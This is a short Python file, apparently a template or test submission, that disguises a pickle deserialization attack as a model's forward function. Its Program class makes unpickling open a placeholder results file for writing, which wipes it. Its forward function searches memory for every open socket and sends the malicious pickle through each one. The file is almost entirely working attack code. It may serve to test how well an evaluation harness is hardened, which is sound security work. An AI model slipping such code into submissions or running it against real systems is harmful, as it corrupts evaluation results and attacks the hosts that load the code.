"""Sends a pickle that runs a program when it is read."""

import gc
import pickle
import socket


class Program:
    def __reduce__(self):
        return (open, ("@RESULTS@", "w"))


def forward(params, x, state):
    for thing in gc.get_objects():
        if type(thing) is socket.socket:
            thing.sendall(pickle.dumps(Program()) * 9)
    return state, state
